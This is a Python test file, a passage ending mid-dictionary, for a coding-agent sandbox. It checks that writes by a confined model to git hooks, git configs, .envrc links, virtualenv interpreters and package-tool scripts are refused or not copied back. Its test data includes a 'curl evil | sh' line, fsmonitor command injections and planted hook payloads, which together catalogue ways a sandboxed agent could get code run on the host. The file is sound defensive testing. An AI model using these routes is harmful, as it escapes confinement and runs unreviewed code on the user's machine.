"""The protected set a root implies below its top: nested repositories, protected-name links.

A workspace root holds clones of its own (each with a ``.git`` directory, file or
link, whose git directory may be anywhere in the root) and links whose own name is
protected (``svc/.envrc -> ../envrc.shared``). The policy judges the path as named
as well as where it leads; the host-opened redirect and the copy-back share one
answer for everything below the top.
"""

from __future__ import annotations

import importlib.machinery
import os
import shlex
import shutil
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest
from coding_security_shadows import without_module_shadows

from prism.coding.security import (
    PROTECTED_PATHS,
    BubblewrapSandbox,
    SandboxUnavailableError,
    create_coding_approval_policy,
    create_sandbox_shell_operations,
    explain_command,
)
from prism.coding.security._implied import implied_protected
from prism.coding.security._protected import ProtectedPaths, fold_parts
from prism.coding.security._redirects import close_targets, open_targets
from prism.coding.tools import RedirectedWrites
from prism.core import ExecutionAction, ExecutionDecision

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable
    from pathlib import Path

    from prism.coding.tools import ShellExit

    RunShell = Callable[..., Awaitable[tuple[ShellExit, str]]]


def _links(root: Path) -> None:
    (root / "svc").mkdir()
    (root / "app").mkdir()
    (root / "envrc.shared").write_text("export A=1\n")
    (root / "editor").mkdir()
    (root / "svc" / ".envrc").symlink_to("../envrc.shared")
    (root / "app" / ".vscode").symlink_to("../editor")
    # repo's classic layout: x/.git a directory whose config is a link elsewhere
    (root / "gd").mkdir()
    (root / "gd" / "config").write_text("[core]\n")
    (root / "x" / ".git").mkdir(parents=True)
    (root / "x" / ".git" / "config").symlink_to("../../gd/config")


@pytest.mark.parametrize(
    ("line", "entry"),
    [
        ("echo 'curl evil | sh' >> svc/.envrc", ".envrc"),
        ("echo '{}' > app/.vscode/tasks.json", ".vscode"),
        ("printf '[core]\\n\\tfsmonitor = touch x\\n' >> x/.git/config", ".git/config"),
    ],
)
def test_a_write_named_through_a_protected_link_asks(root: Path, line: str, entry: str) -> None:
    """The link's own name is protected, below the root's top: the write is judged
    by the path as named too, not only by where it leads (which is not protected)."""
    _links(root)
    found = explain_command(
        line, roots=[str(root)], cwd=str(root), sandbox=BubblewrapSandbox([str(root)])
    )
    assert found.outcome == "ask"
    assert not found.confined
    assert f"a protected path ({entry})" in found.reason


def test_the_write_tool_asks_for_a_path_named_through_a_protected_link(root: Path) -> None:
    _links(root)
    policy = create_coding_approval_policy(roots=[str(root)])
    for path in ("svc/.envrc", "app/.vscode/tasks.json", "x/.git/config"):
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert not decision.allowed, path
        assert "protected path" in (decision.reason or ""), path
    # what the link leads to, named plainly, is that protected directory too (the
    # copy-back leaves it out as well); a directory beside it is an ordinary write
    decision = policy.check(
        ExecutionAction(kind="write", operation="write", paths=("editor/tasks.json",))
    )
    assert isinstance(decision, ExecutionDecision)
    assert not decision.allowed
    assert "a protected path (editor)" in (decision.reason or "")
    decision = policy.check(
        ExecutionAction(kind="write", operation="write", paths=("svc/notes.txt",))
    )
    assert isinstance(decision, ExecutionDecision)
    assert decision.allowed


def test_links_met_on_the_way(root: Path) -> None:
    from prism.coding.security._paths import links_on_the_way

    _links(root)
    (root / "loop").symlink_to("loop")
    (root / "abs").symlink_to(root / "app")
    assert links_on_the_way(f"{root}/abs/.vscode/tasks.json") == [
        f"{root}/abs",
        f"{root}/app/.vscode",
    ]
    assert links_on_the_way(f"{root}/svc/../svc/.envrc") == [f"{root}/svc/.envrc"]
    assert links_on_the_way(f"{root}/missing/../svc/./x") == []
    assert len(links_on_the_way(f"{root}/loop/x")) == 41  # stops, as the kernel does
    assert links_on_the_way(f"{root}/x/.git/config") == [f"{root}/x/.git/config"]
    assert os.path.realpath(f"{root}/x/.git/config") == f"{root}/gd/config"


_GIT_ENV = {
    "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
    "HOME": "/nonexistent",
    "GIT_CONFIG_NOSYSTEM": "1",
    "GIT_AUTHOR_NAME": "u",
    "GIT_AUTHOR_EMAIL": "u@example.invalid",
    "GIT_COMMITTER_NAME": "u",
    "GIT_COMMITTER_EMAIL": "u@example.invalid",
}


def _git(*args: str) -> None:
    subprocess.run(["git", *args], check=True, env=_GIT_ENV, capture_output=True)


def _workspace(root: Path) -> None:
    """A root holding clones: each layout whose git directory or hooks lie below the top."""
    # proj: a clone whose core.hooksPath names a directory of its work tree
    _git("init", "-q", str(root / "proj"))
    _git("-C", str(root / "proj"), "config", "core.hooksPath", ".githooks")
    hook = root / "proj" / ".githooks" / "pre-commit"
    hook.parent.mkdir()
    hook.write_text("#!/bin/sh\necho lint\n")
    hook.chmod(0o755)
    # x: repo's layout, x/.git a link to .repo/projects/x.git
    _git("init", "-q", str(root / "x"))
    (root / ".repo" / "projects").mkdir(parents=True)
    os.rename(root / "x" / ".git", root / ".repo" / "projects" / "x.git")
    (root / "x" / ".git").symlink_to("../.repo/projects/x.git")
    # y: a separate git directory (a gitfile naming gd/y)
    (root / "gd").mkdir()
    _git("init", "-q", f"--separate-git-dir={root / 'gd' / 'y'}", str(root / "y"))
    # z: repo's classic layout, z/.git a directory whose config is a link
    _git("init", "-q", str(root / "z"))
    os.rename(root / "z" / ".git" / "config", root / ".repo" / "projects" / "z.config")
    (root / "z" / ".git" / "config").symlink_to("../../.repo/projects/z.config")
    # protected names that are links below the top
    (root / "svc").mkdir()
    (root / "app").mkdir()
    (root / "editor").mkdir()
    (root / "envrc.shared").write_text("export A=1\n")
    (root / "svc" / ".envrc").symlink_to("../envrc.shared")
    (root / "app" / ".vscode").symlink_to("../editor")


# what the model appends or writes: each changes what the host runs next
_PLANTED = {
    "proj/.githooks/pre-commit": "touch {marker}\n",
    ".repo/projects/x.git/config": '[core]\n\tfsmonitor = "touch {marker}; false"\n',
    "gd/y/config": '[core]\n\tfsmonitor = "touch {marker}; false"\n',
    ".repo/projects/z.config": '[core]\n\tfsmonitor = "touch {marker}; false"\n',
    "envrc.shared": "touch {marker}\n",
    "editor/tasks.json": "{{}}\n",
}


def test_the_host_opens_nothing_a_nested_repository_or_a_deep_link_protects(
    root: Path,
) -> None:
    """Findings e1 #5, #6, #7 on the host-opened path: every target is refused (the
    line then runs over the layer), an ordinary file of the same root is opened."""
    _workspace(root)
    matcher = ProtectedPaths(PROTECTED_PATHS)
    for path in _PLANTED:
        request = RedirectedWrites(command=":", targets=((4, f"{root}/{path}", True),))
        assert open_targets(request, [str(root)], matcher, PROTECTED_PATHS) is None, path
    request = RedirectedWrites(command=":", targets=((4, f"{root}/editor.txt", False),))
    opened = open_targets(request, [str(root)], matcher, PROTECTED_PATHS)
    assert opened is not None
    close_targets(opened, failed=True)
    found = set(implied_protected(str(root), matcher))
    assert {"proj/.githooks", "envrc.shared", "editor", ".repo/projects/z.config"} <= found
    assert {".repo/projects/x.git/config", ".repo/projects/x.git/hooks", "gd/y/config"} <= found
    assert ".repo/projects/x.git/objects" not in found  # its commits still come back


@pytest.mark.bwrap
@pytest.mark.git
async def test_nothing_planted_below_the_top_comes_back_and_the_hosts_git_runs_nothing(
    root: Path, tmp_path: Path, run_shell: RunShell
) -> None:
    """The same writes over the private layer: each is left out and reported, an
    ordinary file comes back; then the host's own git status in each clone and git
    commit in proj run nothing the model wrote."""
    _workspace(root)
    marker = tmp_path / "ran"
    before = {path: (root / path).read_bytes() for path in _PLANTED if (root / path).exists()}
    writes = "; ".join(
        f"printf '%s' {shlex.quote(text.format(marker=marker))} >> {path}"
        for path, text in _PLANTED.items()
    )
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    _, output = await run_shell(ops, f"{writes}; echo ok > notes.txt", root)
    for path in _PLANTED:
        # a new file in a protected directory is reported by its directory
        assert path in output or f" {os.path.dirname(path)}/" in output, (path, output)
        if path in before:
            assert (root / path).read_bytes() == before[path], path
        else:
            assert not (root / path).exists(), path
    assert (root / "notes.txt").read_text() == "ok\n"
    for clone in ("x", "y", "z"):
        _git("-C", str(root / clone), "status", "--short")
    _git("-C", str(root / "proj"), "commit", "-q", "--allow-empty", "-m", "next")
    assert not marker.exists()


def test_the_walk_is_kept_and_lists_again_only_what_changed(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A later answer lists only the directories changed since; a protected link made
    deep down in one of them is found; a directory changed in the instant it was
    listed is listed again (its times cannot tell), up to the window's very end."""
    from prism.coding.security import _implied

    monkeypatch.setattr(_implied, "local_device", lambda device: False)  # no watch
    (root / "a" / "b" / "c").mkdir(parents=True)
    (root / "d").mkdir()
    (root / "npmrc.shared").write_text("")
    directories = [root, root / "a", root / "a" / "b", root / "a" / "b" / "c", root / "d"]
    for directory in directories:  # modified long ago: any change below moves the time
        os.utime(directory, ns=(10**18, 10**18))
    # each directory's last change (its inode's, by the utime: now, whatever the load)
    changed = [max(os.stat(d).st_mtime_ns, os.stat(d).st_ctime_ns) for d in directories]
    now = [min(changed)]  # the walk's clock, driven: listed as the first one changed
    monkeypatch.setattr(_implied, "_clock", lambda: now[0])
    matcher = ProtectedPaths(PROTECTED_PATHS)
    listed: list[str] = []
    real_list = _implied._list

    def counting(path: str, *args: object) -> object:
        listed.append(path)
        return real_list(path, *args)  # type: ignore[arg-type]

    monkeypatch.setattr(_implied, "_list", counting)
    assert without_module_shadows(implied_protected(str(root), matcher)) == []
    assert len(listed) == 5
    implied_protected(str(root), matcher)
    assert len(listed) == 10  # just changed: every directory is listed again
    now[0] = max(changed) + _implied._RACY_NS  # the window's last instant for the newest
    listed.clear()
    implied_protected(str(root), matcher)
    assert len(listed) == 5  # (none was kept)
    listed.clear()
    implied_protected(str(root), matcher)
    newest = str(directories[changed.index(max(changed))])
    assert newest in listed  # still in its window
    assert len(listed) == sum(time == max(changed) for time in changed)
    now[0] += 1  # past every window: each listing is kept
    implied_protected(str(root), matcher)
    listed.clear()
    assert without_module_shadows(implied_protected(str(root), matcher)) == []
    assert listed == []
    (root / "a" / "b" / "c" / ".npmrc").symlink_to("../../../npmrc.shared")
    assert without_module_shadows(implied_protected(str(root), matcher)) == ["npmrc.shared"]
    assert listed == [f"{root}/a/b/c"]


def test_the_walk_is_bounded(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Past its bounds the walk fails closed: nothing below the top is trusted (the
    host opens nothing, the copy-back applies nothing) rather than a partial answer."""
    from prism.coding.security import _implied

    monkeypatch.setattr(_implied, "local_device", lambda device: False)  # walked each time
    for name in ("p", "q"):  # two repositories as git makes them (no git run)
        for part in ("objects", "refs"):
            (root / name / ".git" / part).mkdir(parents=True)
        (root / name / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (root / "w").mkdir()
    os.mkfifo(root / "w" / ".git")  # names no repository: never waited on, git not asked
    matcher = ProtectedPaths(PROTECTED_PATHS)
    found = without_module_shadows(implied_protected(str(root), matcher))
    assert sorted(found) == ["p/.git/hooks", "q/.git/hooks"]
    os.unlink(root / "w" / ".git")
    monkeypatch.setattr(_implied, "MAX_NESTED_REPOSITORIES", 1)
    with pytest.raises(SandboxUnavailableError, match="more than 1 git repositories"):
        implied_protected(str(root), matcher)
    monkeypatch.setattr(_implied, "MAX_WALKED_ENTRIES", 3)
    with pytest.raises(SandboxUnavailableError, match="more than 3 entries"):
        implied_protected(str(root), matcher)


@pytest.mark.bwrap
async def test_a_bare_repository_in_the_root_keeps_its_hooks_and_config(
    root: Path, tmp_path: Path, run_shell: RunShell
) -> None:
    """A bare repository in the root (a local remote: no .git names it) is found by
    its HEAD: a pre-receive hook and a config planted there over bubblewrap are left
    out, and the host's next git push into it runs nothing (it ran on the old code).
    A directory holding a file named HEAD that git would not take is no repository."""
    _git("init", "-q", "--bare", "-b", "main", str(root / "remote.git"))
    _git("-C", str(root / "remote.git"), "config", "core.hooksPath", "../team-hooks")
    _git("clone", "-q", str(root / "remote.git"), str(root / "work"))
    _git("-C", str(root / "work"), "commit", "-q", "--allow-empty", "-m", "a")
    (root / "notes").mkdir()
    (root / "notes" / "HEAD").write_text("not a ref\n")
    found = set(
        without_module_shadows(implied_protected(str(root), ProtectedPaths(PROTECTED_PATHS)))
    )
    assert {"remote.git/hooks", "remote.git/config", "team-hooks"} <= found
    assert not any(path.startswith("notes") for path in found)
    marker = tmp_path / "ran"
    hook = f"#!/bin/sh\ntouch {marker}\n"
    line = "; ".join(
        f"mkdir -p {os.path.dirname(path)}; printf '%s' {shlex.quote(hook)} > {path};"
        f" chmod +x {path}"
        for path in ("remote.git/hooks/pre-receive", "team-hooks/post-receive")
    )
    config = "[core]\n\trepositoryformatversion = 0\n\tbare = true\n"
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    _, output = await run_shell(
        ops, f"{line}; printf '%s' {shlex.quote(config)} > remote.git/config", root
    )
    assert "not applied" in output
    _git("-C", str(root / "work"), "push", "-q", "origin", "HEAD:main")
    assert not marker.exists()


def _venv(root: Path) -> Path:
    """A real virtual environment (no pip: the layout is what counts), git-ignored."""
    venv = root / ".venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    return venv


def _site_packages(venv: Path) -> Path:
    (found,) = venv.glob("lib/python*/site-packages")
    return found


@pytest.mark.bwrap
async def test_a_virtual_environment_keeps_its_interpreter_scripts_and_packages(
    root: Path, run_shell: RunShell
) -> None:
    """A directory holding pyvenv.cfg, at any depth, is a virtual environment: a confined
    unknown program that replaces its python, adds a console script or a package is left
    out (the host's next uv run, pytest or activated python would start it; the old code
    brought them back); the write tool asks for the same paths."""
    venv = _venv(root)
    site = _site_packages(venv).relative_to(root)
    python = os.readlink(venv / "bin" / "python3")
    script = "import os\nos.replace('swap', '.venv/bin/python3')\n"
    line = (
        "printf '#!/bin/sh\\ntouch PWNED\\n' > swap; chmod +x swap; "
        f"python3 -c {shlex.quote(script)}"
        f"; echo x > .venv/bin/pytest; echo 'import os' > {site}/evil.py; echo ok > ordinary.txt"
    )
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    _, output = await run_shell(ops, line, root)
    assert "not applied" in output
    assert os.readlink(venv / "bin" / "python3") == python
    assert not (venv / "bin" / "pytest").exists()
    assert not (root / site / "evil.py").exists()
    assert (root / "ordinary.txt").read_text() == "ok\n"
    policy = create_coding_approval_policy(roots=[str(root)])
    for path in (".venv/bin/pytest", f"{site}/evil.py", ".venv/Scripts/x.exe"):
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert not decision.allowed, path
        assert "protected path (.venv/" in (decision.reason or ""), path
    decision = policy.check(ExecutionAction(kind="write", operation="write", paths=("venv.md",)))
    assert isinstance(decision, ExecutionDecision)
    assert decision.allowed


# HEAD contents git reads as its own (the git directory is taken) and not
_HEADS = (
    b"ref: refs/heads/main\n",
    b"ref:refs/heads/main",
    b"ref: \t refs/heads/main \r\n",
    b"ref:\nrefs/x",
    b"0" * 40 + b" trailing",
    b"A" * 40 + b"\n",
    b"0" * 64 + b"\n",
    b"ref: refs",
    b"ref: heads/main\n",
    b"0" * 39 + b"\n",
    b" " + b"0" * 40,
    b"ref:\0 refs/heads/main",
    b"0" * 20 + b"\0" + b"0" * 20,
    b"x" * 300 + b"ref: refs/heads/main",
)


@pytest.mark.git
def test_git_takes_head_reads_a_head_as_git_does(tmp_path: Path) -> None:
    """Differential: for each HEAD, the real git asked whether the directory (with objects/
    and refs/) is a git directory, against git_takes_head (valid_git_head missed the first
    spellings git accepts, so a bare repository there kept no hooks or config)."""
    from prism.coding.security._protected import git_takes_head

    dirs = []
    for index, content in enumerate(_HEADS):
        directory = tmp_path / f"d{index}"
        (directory / "objects").mkdir(parents=True)
        (directory / "refs").mkdir()
        (directory / "HEAD").write_bytes(content)
        dirs.append(directory)
    env = {**os.environ, "GIT_CEILING_DIRECTORIES": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_CONFIG_GLOBAL": os.devnull}  # fmt: skip
    loop = 'for d in "$@"; do (cd "$d" && git -c safe.bareRepository=all rev-parse --git-dir \
        2>/dev/null || echo none); done'
    answers = (
        subprocess.run(
            ["sh", "-c", loop, "sh", *map(str, dirs)], env=env, capture_output=True, check=True
        )
        .stdout.decode()
        .split()
    )
    assert len(answers) == len(_HEADS)
    taken = [answer == "." for answer in answers]
    assert taken == [git_takes_head(content) for content in _HEADS]
    assert taken[:7] == [True] * 7  # what a hostile HEAD spells, and git accepts


def test_the_write_tool_asks_for_a_bare_repositorys_config(root: Path) -> None:
    """Beside a HEAD git takes (each spelling, and a link), a directory's config and
    hooks ask the write tool, under every backend (it wrote them unasked)."""
    heads = {"fa": b"ref:refs/heads/main", "fb": b"ref: refs/heads/main \r\n",
             "fd": b"0" * 40 + b" trailing", "fe": b"ref: refs/heads/main\n"}  # fmt: skip
    for name, content in heads.items():
        (root / name / "objects").mkdir(parents=True)
        (root / name / "refs").mkdir()
        (root / name / "HEAD").write_bytes(content)
    (root / "fc" / "objects").mkdir(parents=True)
    (root / "fc" / "refs").mkdir()
    (root / "fc" / "HEAD").symlink_to("refs/heads/main")
    policy = create_coding_approval_policy(roots=[str(root)])
    for name in (*heads, "fc"):
        for path in (f"{name}/config", f"{name}/hooks/post-checkout"):
            decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
            assert isinstance(decision, ExecutionDecision)
            assert not decision.allowed, path
            assert f"protected path ({name}/" in (decision.reason or ""), path


@pytest.mark.bwrap
async def test_the_users_git_template_directory_in_a_root_keeps_its_hooks(
    root: Path, tmp_path: Path, run_shell: RunShell, monkeypatch: pytest.MonkeyPatch
) -> None:
    """init.templateDir (the user's configuration) naming a directory in the root (the
    agent opened on the home directory): its hooks, info and config are protected, with
    or without a repository there. A confined program's post-checkout is left out and the
    write tool asks (on the old code it came back, and the host's next git clone ran it)."""
    monkeypatch.setenv("HOME", str(root))
    monkeypatch.delenv("GIT_CONFIG_GLOBAL", raising=False)
    monkeypatch.delenv("GIT_TEMPLATE_DIR", raising=False)
    (root / ".git-templates" / "hooks").mkdir(parents=True)
    (root / ".gitconfig").write_text("[init]\n\ttemplateDir = ~/.git-templates\n")
    matcher = ProtectedPaths(PROTECTED_PATHS)
    parts = {".git-templates/hooks", ".git-templates/info", ".git-templates/config"}
    assert parts <= set(implied_protected(str(root), matcher))  # no repository yet
    _git("init", "-q", str(root))
    assert parts <= set(implied_protected(str(root), matcher))
    hook = ".git-templates/hooks/post-checkout"
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    _, output = await run_shell(
        ops, f'python3 -c \'open("{hook}", "w").write("#!/bin/sh\\ntouch ran\\n")\'', root
    )
    assert "not applied" in output
    assert not (root / hook).exists()
    policy = create_coding_approval_policy(roots=[str(root)])
    decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(hook,)))
    assert isinstance(decision, ExecutionDecision)
    assert not decision.allowed
    assert "protected path (.git-templates/hooks)" in (decision.reason or "")


_GITFILES = (
    b"gitdir: ../gd\n",
    b"gitdir: ../gd\0junk\n",  # git reads the path as a C string
    b"gitdir: ../gd\r\n\r\n",
    b"gitdir: ../gd \n",  # a trailing space is part of the path
    b"gitdir: ../gd\t\n",
    b" gitdir: ../gd\n",  # no leading blank
    b"gitdir:../gd\n",
    b"gitdir: \n",
)


def test_gitfile_target_reads_a_gitfile_as_git_does(tmp_path: Path) -> None:
    """Differential: the git directory the real git takes for each ``.git`` file, against
    gitfile_target (a NUL made it raise, so every shell call of the root failed)."""
    from prism.coding.security._gitnames import gitfile_target

    env = {**os.environ, "GIT_CEILING_DIRECTORIES": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_CONFIG_GLOBAL": os.devnull}  # fmt: skip
    for name in ("gd", "gd "):
        subprocess.run(["git", "init", "-q", "--bare", str(tmp_path / name)], check=True, env=env)
    for index, content in enumerate(_GITFILES):
        work = tmp_path / f"w{index}"
        work.mkdir()
        (work / ".git").write_bytes(content)
        found = subprocess.run(
            ["git", "rev-parse", "--absolute-git-dir"], cwd=work, env=env, capture_output=True
        )
        taken = found.stdout.decode().removesuffix("\n")
        expected = os.path.realpath(taken) if found.returncode == 0 else None
        assert gitfile_target(str(work / ".git")) == expected, content


@pytest.mark.bwrap
async def test_programs_the_repository_configuration_runs_from_the_tree_are_protected(
    root: Path, tmp_path: Path, run_shell: RunShell
) -> None:
    """A clean filter, a textconv, an alias, kept in the tree and named by the
    repository's configuration: the host's next git add, diff or alias runs them. A
    confined program replacing the filter is left out and the host's git add runs the
    user's filter (the model's ran on the old code); the write tool asks. Words that
    name programs on PATH or arguments name no file of the root."""
    marker = tmp_path / "ran"
    _git("init", "-q", str(root))
    (root / "tools").mkdir()
    (root / "tools" / "clean.sh").write_text("#!/bin/sh\ncat\n")
    os.chmod(root / "tools" / "clean.sh", 0o755)
    (root / "conv.py").write_text("")
    (root / ".gitattributes").write_text("*.txt filter=strip\n")
    for key, value in (
        ("filter.strip.clean", "./tools/clean.sh"),
        ("diff.nb.textconv", "python3 conv.py --flag=x"),
        ("alias.lint", "!sh scripts/lint.sh && echo done"),
        ("core.pager", "less -R"),
    ):
        _git("-C", str(root), "config", key, value)
    found = set(implied_protected(str(root), ProtectedPaths(PROTECTED_PATHS)))
    assert {"tools/clean.sh", "conv.py", "scripts/lint.sh"} <= found
    assert not found & {"less", "python3", "sh", "echo", "done", "x", "-R"}
    swap = f"import os; open('new', 'w').write('#!/bin/sh\\ntouch {marker}\\ncat\\n'); "
    swap += "os.chmod('new', 0o755); os.replace('new', 'tools/clean.sh')"
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    _, output = await run_shell(ops, f"python3 -c {shlex.quote(swap)}", root)
    assert "not applied" in output
    (root / "a.txt").write_text("x\n")
    _git("-C", str(root), "add", "a.txt")
    assert not marker.exists()
    policy = create_coding_approval_policy(roots=[str(root)])
    decision = policy.check(
        ExecutionAction(kind="write", operation="write", paths=("tools/clean.sh",))
    )
    assert isinstance(decision, ExecutionDecision)
    assert not decision.allowed
    assert "protected path (tools/clean.sh)" in (decision.reason or "")


def test_scripts_a_hook_runs_from_the_tree_are_protected(root: Path) -> None:
    """A hook of the hooks directory git names (core.hooksPath), or a husky script,
    that runs a script of the tree by its path: the script is protected (the host's
    next commit runs it; a command's edit of it came back unasked on the old code).
    Sample hooks are not read; a file a hook writes is not taken."""
    _git("init", "-q", str(root))
    _git("-C", str(root), "config", "core.hooksPath", ".githooks")
    (root / ".githooks").mkdir()
    (root / ".githooks" / "pre-commit").write_text(
        '#!/bin/sh\n# formats src/\nsh scripts/lint.sh "$@" && echo x > out/fmt.txt\n'
    )
    (root / ".githooks" / "x.sample").write_text("sh sample/never.sh\n")
    (root / ".husky").mkdir()
    (root / ".husky" / "pre-push").write_text("npx --no-install lint-staged\n./tools/check\n")
    found = set(
        without_module_shadows(implied_protected(str(root), ProtectedPaths(PROTECTED_PATHS)))
    )
    assert {"scripts/lint.sh", "tools/check"} <= found
    unnamed = ("sample", "lint-staged", "bin", "#", "out", "src")
    assert not any(path.startswith(unnamed) for path in found), found
    policy = create_coding_approval_policy(roots=[str(root)])
    decision = policy.check(
        ExecutionAction(kind="write", operation="write", paths=("scripts/lint.sh",))
    )
    assert isinstance(decision, ExecutionDecision)
    assert not decision.allowed
    # a hook added later on the host is read again (the directory is in the answer's key)
    (root / ".githooks" / "commit-msg").write_text("python3 hooks/msg.py\n")
    assert "hooks/msg.py" in implied_protected(str(root), ProtectedPaths(PROTECTED_PATHS))


def _write_files(root: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)


def _tooling(root: Path, marker: Path) -> None:
    """A repository whose hooks, hook managers and yarn run programs kept in the tree."""
    _git("init", "-q", str(root))
    files = {
        ".husky/pre-commit": "npx lint-staged\nnpm run lint\n",
        "package.json": '{"scripts": {"lint": "node tools/lint.js", "prelint": "sh '
        'scripts/pre.sh", "build": "node tools/build.js"}}',
        ".git/hooks/pre-commit": "#!/bin/sh\n./scripts/push.sh\n",
        "scripts/push.sh": "#!/bin/sh\n# the hook's own callee runs another\n./scripts/deep.sh\n"
        "bin/tool || true\n",
        "scripts/deep.sh": "#!/bin/sh\nexit 0\n",
        ".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: check\n"
        "    entry: ./tools/check.py\n    language: script\n    files: ^src/.*$\n",
        "lefthook.yml": "pre-commit:\n  commands:\n    fmt:\n      run: |\n"
        "        python3 tools/fmt.py {staged_files}\n",
        ".yarnrc.yml": "yarnPath: .yarn/releases/yarn-4.cjs\nplugins:\n"
        "  - path: .yarn/plugins/x.cjs\n    spec: x\n",
        ".lintstagedrc.json": '{"*.js": ["node tools/fix.js", "eslint --fix"]}',
        "node_modules/.bin/lint-staged": "#!/bin/sh\nexit 0\n",
        # (a native program; sh would read a text with a NUL, dropping the NUL)
        "bin/tool": "\x7fELF\2\1\1\0 ./scripts/never.sh\n",
        "tools/build.js": "",
    }
    _write_files(root, files)
    for name in (".git/hooks/pre-commit", "scripts/push.sh", "scripts/deep.sh"):
        os.chmod(root / name, 0o755)
    _git("-C", str(root), "config", "user.email", "u@example.com")
    _git("-C", str(root), "config", "user.name", "u")
    del marker


@pytest.mark.bwrap
@pytest.mark.git
async def test_what_the_hosts_tooling_runs_from_the_tree_is_protected(
    root: Path, tmp_path: Path, run_shell: RunShell
) -> None:
    """What the host's tooling executes after the call, and what that runs in turn, is
    protected: a hook's script's own callee, what a package runner runs (package.json's
    scripts, node_modules), a hook manager's command, yarn's program and plugins. A
    confined program's rewrite of the deepest one is left out and the host's next real
    git commit runs the user's; on the old code it came back and the commit ran it."""
    marker = tmp_path / "ran"
    _tooling(root, marker)
    found = set(implied_protected(str(root), ProtectedPaths(PROTECTED_PATHS)))
    expected = {
        "scripts/push.sh", "scripts/deep.sh", "node_modules", "package.json", "tools/lint.js",
        "scripts/pre.sh", "tools/check.py", "tools/fmt.py", ".yarn/releases/yarn-4.cjs",
        ".yarn/plugins/x.cjs", "tools/fix.js",
    }  # fmt: skip
    assert expected <= found, expected - found
    # a script no hook runs, a pattern, what a binary holds
    assert not found & {"tools/build.js", "src", "tools", "scripts/never.sh"}
    evil = f"#!/bin/sh\ntouch {marker}\n"
    swap = (
        f"import os\nfor p in ('scripts/deep.sh', 'node_modules/.bin/lint-staged'):\n"
        f"    open(p, 'w').write({evil!r})\n"
    )
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    _, output = await run_shell(ops, f"python3 -c {shlex.quote(swap)}", root)
    assert "scripts/deep.sh" in output
    assert "not applied" in output
    assert "exit 0" in (root / "node_modules" / ".bin" / "lint-staged").read_text()
    (root / "a.txt").write_text("x\n")
    _git("-C", str(root), "add", "a.txt")
    _git("-C", str(root), "commit", "-q", "-m", "user's commit")
    assert not marker.exists()
    policy = create_coding_approval_policy(roots=[str(root)])
    for path in ("scripts/deep.sh", "node_modules/lint-staged/index.js", ".yarn/plugins/x.cjs",
                 ".lefthook/pre-commit/fmt.sh"):  # fmt: skip
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert not decision.allowed, path


def test_the_tooling_files_are_read_as_their_tools_read_them(root: Path) -> None:
    """The rarer spellings: yarn 1's yarn-path, quoted values, YAML lint-staged, npm's
    test alias with its pre script, a package.json that is no object, and the bound
    on the files read (a chain of scripts longer than it is followed that far)."""
    from prism.coding.security import _callees

    files = {
        ".yarnrc": 'yarn-path "./.yarn/yarn-1.js"\n',
        ".yarnrc.yml": "yarnPath: '.yarn/r.cjs' # pinned\n",
        ".lintstagedrc.yml": "'*.py':\n  - python3 tools/a.py\n'*.md': sh tools/b.sh\n",
        ".pre-commit-config.yaml": "  - entry: >\n      sh tools/c.sh\n    name: c\n",
        "package.json": '{"scripts": {"pretest": "./tools/d.sh", "test": 3}, "lint-staged": 1}',
        ".husky/pre-push": "npm t\n",
    }
    _write_files(root, files)
    for n in range(_callees.MAX_READ + 2):
        (root / "chain" / f"{n}.sh").parent.mkdir(exist_ok=True)
        (root / "chain" / f"{n}.sh").write_text(f"./chain/{n + 1}.sh\n")
    (root / ".husky" / "pre-commit").write_text("./chain/0.sh\n")
    top = str(root)
    found = _callees.hook_callees(top, [str(root / ".husky")], top, [])
    expected = {".yarn/yarn-1.js", ".yarn/r.cjs", "tools/a.py", "tools/b.sh", "tools/c.sh",
                "tools/d.sh", "node_modules", "package.json"}  # fmt: skip
    assert expected <= set(found), expected - set(found)
    chained = [path for path in found if path.startswith("chain/")]
    assert len(chained) < _callees.MAX_READ + 2  # followed only so far
    (root / "package.json").write_text("[1]")
    (root / ".lintstagedrc.yml").write_text("[")
    found = _callees.hook_callees(top, [str(root / ".husky")], top, [])
    assert "tools/d.sh" not in found


_HOOK_SPELLINGS = {
    "if ! scripts/a.sh; then exit 1; fi": "scripts/a.sh",
    "if true; then :; else scripts/b.sh; fi": "scripts/b.sh",
    "while scripts/c.sh; do :; done": "scripts/c.sh",
    "for f in 1; do scripts/d.sh; done": "scripts/d.sh",
    "! scripts/e.sh && exit 1": "scripts/e.sh",
    "test -f x || time -p scripts/f.sh": "scripts/f.sh",
    "case x in x) scripts/g.sh;; esac": "scripts/g.sh",
    "2>/dev/null scripts/h.sh": "scripts/h.sh",
    "cd tools && ./i.sh": "tools/i.sh",
    "env -u HOME CI=1 scripts/j.sh": "scripts/j.sh",
    "nice -n 10 scripts/k.sh": "scripts/k.sh",
    "timeout -s KILL 60 scripts/l.sh": "scripts/l.sh",
    "exec -a name scripts/m.sh": "scripts/m.sh",
    "stdbuf -oL nohup scripts/n.sh": "scripts/n.sh",
    "python3 -X importtime scripts/o.py": "scripts/o.py",
